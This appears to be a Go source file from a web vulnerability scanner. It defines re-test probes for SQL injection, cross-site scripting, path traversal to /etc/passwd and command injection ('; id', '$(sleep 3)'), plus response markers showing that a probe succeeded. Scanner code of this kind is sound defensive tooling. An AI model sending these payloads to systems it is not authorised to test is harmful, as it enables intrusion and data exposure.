package recheck

import (
	"github.com/periscan/periscan/db"
)

// extraPayloads returns the additional probes sent while re-testing a
// suspicion, keyed by vulnerability type. At most three payloads are used
// per verification pass.
func extraPayloads(vulnType db.VulnType) []string {
	switch vulnType {
	case db.VulnSQLI:
		return []string{
			"' OR '1'='1' -- ",
			"1' AND SLEEP(3)-- ",
			"\" UNION SELECT NULL-- ",
		}
	case db.VulnXSS:
		return []string{
			"<script>alert(document.domain)</script>",
			"\"><img src=x onerror=alert(1)>",
			"javascript:alert(1)//",
		}
	case db.VulnIDOR:
		return []string{
			"1", "2", "9999",
		}
	case db.VulnLFI:
		return []string{
			"../../../../etc/passwd",
			"....//....//....//etc/passwd",
			"/etc/passwd%00",
		}
	case db.VulnRCE:
		return []string{
			"; id",
			"| whoami",
			"$(sleep 3)",
		}
	default:
		return []string{
			"'\"><",
			"../",
			"%00",
		}
	}
}

// errorIndicators are response markers that suggest a payload reached a
// vulnerable sink.
var errorIndicators = []string{
	"sql syntax",
	"mysql_fetch",
	"ora-01756",
	"sqlite error",
	"unclosed quotation",
	"root:x:0:0",
	"uid=",
	"undefined index",
	"stack trace",
	"internal server error",
}
